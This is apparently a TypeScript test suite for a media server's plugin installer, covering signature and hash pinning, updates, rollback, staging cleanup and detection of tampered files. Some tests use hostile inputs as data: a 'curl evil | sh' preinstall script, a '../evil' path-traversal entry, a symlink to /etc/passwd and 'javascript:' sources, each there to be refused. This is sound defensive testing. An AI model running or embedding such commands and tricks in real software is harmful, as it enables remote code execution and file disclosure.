import { generateKeyPairSync, sign } from 'node:crypto'
import { chmodSync, existsSync, mkdirSync, readdirSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { sql } from 'slonik'
import t from 'tap'
import { checkFiles } from '../../../../src/core/plugins/archive/check-files.ts'
import {
  changePluginSettings,
  disablePlugin,
  enablePlugin,
  getPlugin,
  installPlugin,
  listPlugins,
  rollBackPlugin,
  uninstallPlugin,
  updatePlugin,
} from '../../../../src/core/plugins/index.ts'
import { deletePlugin } from '../../../../src/core/plugins/queries.ts'
import { createLibrary } from '../../../../src/core/libraries/index.ts'
import type { Connection } from '../../../../src/core/platform/database/index.ts'
import { queueScan } from '../../../../src/core/scanning/index.ts'
import { pluginsFolder, versionFolder } from '../../../../src/core/plugins/plugin-folders.ts'
import { parsePluginSource } from '../../../../src/core/plugins/install/read-source.ts'
import { computeSha256 } from '../../../../src/core/plugins/install/verify-origin.ts'
import type { Outbound } from '../../../../src/core/platform/outbound/index.ts'
import { manifestText, pluginArchive, tarGz } from '../../../support/plugin-archives.ts'
import { testServices } from '../../../support/services.ts'

const services = await testServices(t)
const { dataDirectory } = services.config
const NAME = 'phlix-plugin-sample'
const SOURCE = 'export default class {}'
const folder = pluginsFolder(dataDirectory)
const confirm = async (): Promise<boolean> => true
let files = 0

async function archiveFile(bytes: Buffer): Promise<string> {
  files += 1
  const path = join(dataDirectory, `${files}.tgz`)
  writeFileSync(path, bytes)
  return path
}

const install = async (bytes: Buffer, pin = {}) =>
  installPlugin(services, { source: await archiveFile(bytes), pin, confirm })

void t.test('a plugin is installed disabled, with read-only files, and removed with them', async (t) => {
  const bytes = await pluginArchive(SOURCE)
  const plugin = await install(bytes, { sha256: computeSha256(bytes).toUpperCase() })
  t.match(plugin, {
    name: NAME,
    isEnabled: false,
    disabledReason: null,
    archiveSha256: computeSha256(bytes),
    previous: null,
  })
  if (plugin === undefined) return
  const place = versionFolder(dataDirectory, plugin)
  t.equal(statSync(join(place, 'index.mjs')).mode & 0o777, 0o444)
  await checkFiles(place, plugin.fileHashes)
  await t.rejects(install(bytes), { code: 'plugin_exists' })
  t.strictSame(readdirSync(folder), [NAME], 'no staging folder is left')
  await uninstallPlugin(services, NAME)
  t.strictSame(readdirSync(folder), [])
  await t.rejects(uninstallPlugin(services, NAME), { code: 'plugin_not_found' })
})

void t.test('an archive that breaks a rule leaves nothing (PI-01)', async (t) => {
  const entries = [
    { path: 'plugin.json', content: manifestText() },
    { path: 'index.mjs', content: SOURCE },
  ]
  const scripts = JSON.stringify({ scripts: { preinstall: 'curl evil | sh' } })
  const broken: [Parameters<typeof tarGz>[0], RegExp][] = [
    [[{ path: 'index.mjs', content: SOURCE }], /no plugin\.json/],
    [[{ path: 'plugin.json', content: manifestText() }], /no file index\.mjs/],
    [[...entries, { path: 'package.json', content: scripts }], /script preinstall/],
    [[...entries, { path: '../evil', content: 'x' }], /leaves its folder/],
    [[...entries, { path: 'plugin.json', content: 'x'.repeat(300_000) }], /occurs twice/],
    [[{ path: 'plugin.json', content: ' '.repeat(300_000) }, { path: 'index.mjs' }], /larger than/],
  ]
  for (const [list, message] of broken) {
    await t.rejects(install(await tarGz(list)), { code: 'plugin.install.failed', message })
    t.strictSame([readdirSync(folder), await listPlugins(services)], [[], []])
  }
  t.notOk(existsSync(join(dataDirectory, 'evil')))
})

void t.test('nothing is unpacked into the disk space that must stay free', async (t) => {
  const options = { ...services.config.options, 'hls.min_disk_space_bytes': Number.MAX_SAFE_INTEGER }
  const full = { ...services, config: { ...services.config, options } }
  const source = await archiveFile(await pluginArchive(SOURCE))
  await t.rejects(installPlugin(full, { source, pin: {}, confirm }), { code: 'plugin_no_space', kind: 'io' })
  t.strictSame([readdirSync(folder), await listPlugins(services)], [[], []])
})

void t.test('one folder around the files is removed, as npm pack makes it', async (t) => {
  const plugin = await install(
    await tarGz([
      { path: 'package/plugin.json', content: manifestText() },
      { path: 'package/index.mjs', content: SOURCE },
    ]),
  )
  t.strictSame(Object.keys(plugin?.fileHashes ?? {}).toSorted(), ['index.mjs', 'plugin.json'])
  await uninstallPlugin(services, NAME)
})

void t.test('sources of other kinds are refused (PI-02)', (t) => {
  for (const source of [
    'http://x/y.tgz',
    'git+ssh://x/y',
    'ftp://x',
    'data:x,y',
    'javascript:1',
    '-opt',
    '',
    'file://host/x',
    'a\0b',
    'https://',
  ]) {
    t.throws(() => parsePluginSource(source), { code: 'plugin.url.invalid_scheme' }, source)
  }
  t.strictSame(parsePluginSource('file:///a/b%20c.tgz'), { kind: 'file', path: '/a/b c.tgz' })
  t.strictSame(parsePluginSource('./x.tgz'), { kind: 'file', path: './x.tgz' })
  t.strictSame(parsePluginSource('HTTPS://x/y'), { kind: 'https', url: 'HTTPS://x/y' })
  t.end()
})

void t.test('an archive from the network needs the right hash or signature (PI-02)', async (t) => {
  const bytes = await pluginArchive(SOURCE)
  const { publicKey, privateKey } = generateKeyPairSync('ed25519')
  const raw = publicKey.export({ format: 'der', type: 'spki' }).subarray(-32)
  const key = Buffer.concat([Buffer.from('Ed'), Buffer.alloc(8, 7), raw]).toString('base64')
  const signature = sign(null, Buffer.from(computeSha256(bytes), 'hex'), privateKey).toString('base64')
  const asked: string[] = []
  const outbound: Outbound = {
    async send({ url, trust, redirects }) {
      asked.push(url)
      t.match({ trust, redirects }, { trust: 'public', redirects: 3 })
      return { status: 200, headers: {}, body: url.includes('.sig') ? Buffer.from(`${signature}\n`) : bytes }
    },
    listeners: new Set(),
    async close() {},
  }
  const source = 'https://example.org/p.tgz?x=1'
  const fetchWith = (pin: { sha256?: string; key?: string }) =>
    installPlugin({ ...services, outbound }, { source, pin, confirm })
  const refused = { code: 'plugin.install.failed' }
  await t.rejects(fetchWith({}), { ...refused, message: /pinned/ })
  t.strictSame(asked, [], 'nothing is fetched without a pin')
  await t.rejects(fetchWith({ sha256: '0'.repeat(64) }), { ...refused, message: /not the pinned one/ })
  const otherKey = Buffer.concat([
    Buffer.from('Ed'),
    Buffer.alloc(8),
    generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' }).subarray(-32),
  ])
  await t.rejects(fetchWith({ key: otherKey.toString('base64') }), { ...refused, message: /signature/ })
  for (const wrong of ['', 'x', raw.toString('base64')]) await t.rejects(fetchWith({ key: wrong }), refused)
  t.match(await fetchWith({ key, sha256: computeSha256(bytes) }), { name: NAME, source: 'https://example.org/p.tgz' })
  t.ok(asked.includes('https://example.org/p.tgz.sig?x=1'))
  const later = await archiveFile(await pluginArchive(SOURCE, { version: '1.1.0' }))
  const update = updatePlugin(services, { name: NAME, source: later, pin: {}, confirm })
  await t.rejects(update, { code: 'plugin.install.failed' }, 'an update needs the signature of the same author')
  t.match(await getPlugin(services, NAME), { authorKey: key, manifest: { version: '1.0.0' } })
  await uninstallPlugin(services, NAME)
})

void t.test('an update keeps one old version, and more permissions wait for the administrator', async (t) => {
  await install(await pluginArchive(SOURCE))
  const update = async (fields: object) =>
    updatePlugin(services, {
      name: NAME,
      source: await archiveFile(await pluginArchive(SOURCE, { ...fields })),
      pin: {},
      confirm,
    })
  await t.rejects(update({ name: 'phlix-plugin-other' }), {
    code: 'plugin.install.failed',
    message: /not of phlix-plugin-sample/,
  })
  await t.rejects(updatePlugin(services, { name: 'phlix-plugin-none', source: 'x', pin: {}, confirm }), {
    code: 'plugin_not_found',
  })
  for (const version of ['1.1.0', '1.2.0']) await update({ version })
  t.match(await getPlugin(services, NAME), {
    manifest: { version: '1.2.0' },
    previous: { manifest: { version: '1.1.0' } },
  })
  t.equal(readdirSync(join(folder, NAME)).length, 2)
  t.match(await rollBackPlugin(services, NAME), {
    manifest: { version: '1.1.0' },
    previous: { manifest: { version: '1.2.0' } },
  })
  const { updateState } = await import('../../../../src/core/plugins/queries.ts')
  await updateState(services.db, { name: NAME, isEnabled: true, disabledReason: null, now: services.clock.now() })
  t.match(await update({ version: '1.3.0' }), { isEnabled: true })
  t.match(await update({ version: '1.4.0', permissions: { hosts: ['*'] } }), { isEnabled: false })
  await t.rejects(update({ version: '1.3.9' }), { code: 'plugin.install.failed', message: /older than 1\.4\.0/ })
  const enable = () => enablePlugin(services, NAME, async () => undefined)
  await enable()
  t.match(await rollBackPlugin(services, NAME), { isEnabled: true }, 'fewer permissions')
  t.match(await rollBackPlugin(services, NAME), { isEnabled: false }, 'more permissions')
  const disabledMeanwhile = enablePlugin(services, NAME, async () => void (await disablePlugin(services, NAME)))
  await t.rejects(disabledMeanwhile, { code: 'plugin_busy' })
  t.match(await getPlugin(services, NAME), { isEnabled: false })
  await uninstallPlugin(services, NAME)
})

void t.test('what killed installations left is removed by the next one (PI-03)', async (t) => {
  const unconfirmed = await installPlugin(services, {
    source: await archiveFile(await pluginArchive(SOURCE)),
    pin: {},
    confirm: async () => {
      // A process that was killed before and after its rename.
      mkdirSync(join(folder, '.staging-999999-1-abc'))
      mkdirSync(join(folder, 'phlix-plugin-lost', '1.0.0-abc'), { recursive: true })
      return false
    },
  })
  t.equal(unconfirmed, undefined)
  const plugin = await install(await pluginArchive(SOURCE))
  if (plugin === undefined) return
  t.strictSame(readdirSync(folder), [NAME])
  mkdirSync(join(folder, NAME, '0.9.0-old'))
  await t.rejects(rollBackPlugin(services, NAME), { code: 'plugin_no_old_version' })
  await t.rejects(install(await pluginArchive(SOURCE)), { code: 'plugin_exists' })
  t.strictSame(readdirSync(join(folder, NAME)), [plugin.folder], 'a version without a row')
  await uninstallPlugin(services, NAME)
})

void t.test('a secret is removed when a new version declares it open', async (t) => {
  const archive = (version: string, secret: boolean) =>
    pluginArchive(SOURCE, { version, settings: { token: { type: 'string', secret }, word: { type: 'string' } } })
  await install(await archive('1.0.0', true))
  await changePluginSettings(services, { name: NAME, changes: { token: 'canary', word: 'kept' } })
  const source = await archiveFile(await archive('1.1.0', false))
  const plugin = await updatePlugin(services, { name: NAME, source, pin: {}, confirm })
  t.strictSame(plugin?.settings, { word: 'kept' })
  await uninstallPlugin(services, NAME)
})

void t.test('settings that are changed while an update asks are not lost', async (t) => {
  const settings = { word: { type: 'string' } }
  await install(await pluginArchive(SOURCE, { settings }))
  const source = await archiveFile(await pluginArchive(SOURCE, { version: '1.1.0', settings }))
  const ask = async (): Promise<boolean> => {
    await changePluginSettings(services, { name: NAME, changes: { word: 'new' } })
    return true
  }
  await updatePlugin(services, { name: NAME, source, pin: {}, confirm: ask })
  t.match(await getPlugin(services, NAME), { settings: { word: 'new' }, manifest: { version: '1.1.0' } })
  await uninstallPlugin(services, NAME)
})

void t.test('an uninstallation in progress does not block or fail a scan', async (t) => {
  await install(await pluginArchive(SOURCE, { events: ['library.item.removed'] }))
  await enablePlugin(services, NAME, async () => undefined)
  const library = await createLibrary(services, { name: 'Films', type: 'movie', paths: [t.testdir()] })
  const { id } = await queueScan(services, { libraryId: library.id, type: 'scan' })
  const note = (connection: Connection) =>
    connection.query(sql.unsafe`
      insert into scan_removals (scan_job_id, media_item_id, title) values (${id}, gen_random_uuid(), 'Heat')`)
  const events = () => services.db.oneFirst(sql.unsafe`select count(*)::int from plugin_events`)
  await services.db.transaction(async (uninstalling) => {
    await deletePlugin(uninstalling, NAME)
    await services.db.transaction(async (scanning) => {
      await scanning.query(sql.unsafe`set local lock_timeout = '2s'`)
      await note(scanning)
    })
  })
  t.equal(await events(), 0)
  await install(await pluginArchive(SOURCE, { events: ['library.item.removed'] }))
  await enablePlugin(services, NAME, async () => undefined)
  await note(services.db)
  t.equal(await events(), 1)
  await uninstallPlugin(services, NAME)
})

void t.test('the same archive restores changed files and keeps the settings', async (t) => {
  const bytes = await pluginArchive(SOURCE, { settings: { word: { type: 'string' } } })
  const plugin = await install(bytes)
  if (plugin === undefined) return
  await changePluginSettings(services, { name: NAME, changes: { word: 'kept' } })
  const file = join(versionFolder(dataDirectory, plugin), 'index.mjs')
  const update = async () => updatePlugin(services, { name: NAME, source: await archiveFile(bytes), pin: {}, confirm })
  for (const again of [() => install(bytes), update]) {
    chmodSync(file, 0o644)
    writeFileSync(file, 'evil')
    await t.rejects(checkFiles(join(file, '..'), plugin.fileHashes), { code: 'plugin_changed', hint: /plugin:install/ })
    t.match(await again(), { settings: { word: 'kept' } })
    await checkFiles(join(file, '..'), plugin.fileHashes)
  }
  await t.rejects(install(bytes), { code: 'plugin_exists' })
  await uninstallPlugin(services, NAME)
})

void t.test('added, changed and removed files and links are found before a start (PI-05)', async (t) => {
  const changes: [string, (place: string) => void][] = [
    ['added', (place) => writeFileSync(join(place, 'new.mjs'), 'x')],
    ['changed', (place) => writeFileSync(join(place, 'index.mjs'), 'evil')],
    ['link', (place) => symlinkSync('/etc/passwd', join(place, 'link'))],
  ]
  for (const [word, change] of changes) {
    const plugin = await install(await pluginArchive(SOURCE))
    if (plugin === undefined) return
    const place = versionFolder(dataDirectory, plugin)
    chmodSync(join(place, 'index.mjs'), 0o644)
    change(place)
    await t.rejects(checkFiles(place, plugin.fileHashes), { code: 'plugin_changed' }, word)
    await uninstallPlugin(services, NAME)
  }
  await t.rejects(checkFiles(join(folder, 'gone'), {}), { code: 'plugin_changed' })
})

void t.test('a question holds no lock: others change plugins meanwhile, and the later answer loses', async (t) => {
  const named = (name: string) => pluginArchive(SOURCE, { name, permissions: { hosts: ['api.example.org'] } })
  const [slow, other] = ['phlix-plugin-slow', 'phlix-plugin-other']
  const source = await archiveFile(await named(slow))
  const during = (work: () => Promise<unknown>) =>
    installPlugin(services, {
      source,
      pin: {},
      async confirm() {
        await work()
        return true
      },
    })
  t.match(await during(async () => install(await named(other))), { name: slow })
  t.match(await getPlugin(services, other), { isEnabled: false })
  await uninstallPlugin(services, slow)
  await t.rejects(
    during(async () => install(await named(slow))),
    { code: 'plugin_busy' },
    'the same plugin was installed by somebody else',
  )
  await uninstallPlugin(services, slow)
  await uninstallPlugin(services, other)
  t.strictSame(readdirSync(folder), [], 'no staging folder is left')
})
